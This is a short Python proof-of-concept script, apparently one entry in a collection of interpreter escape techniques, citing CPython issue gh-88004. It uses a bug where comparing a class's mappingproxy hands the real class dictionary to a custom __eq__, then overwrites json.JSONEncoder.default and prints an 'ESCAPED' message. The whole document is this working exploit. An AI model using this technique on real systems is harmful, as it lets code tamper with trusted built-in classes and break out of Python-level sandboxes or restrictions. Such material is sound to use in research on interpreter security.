# technique: comparing a mappingproxy hands the real dict of the class to our __eq__
# goal: bend
# mended: later releases
# source: CPython gh-88004 (bpo-43838)
import json


class Spy:
    def __eq__(self, other):
        other['default'] = lambda self, thing: 'bent'


json.JSONEncoder.__dict__ == Spy()
if json.JSONEncoder().encode({1}) == '"bent"' or 'bent' == json.JSONEncoder.default(0, 0):
    print('ESCAPED trusted class written')
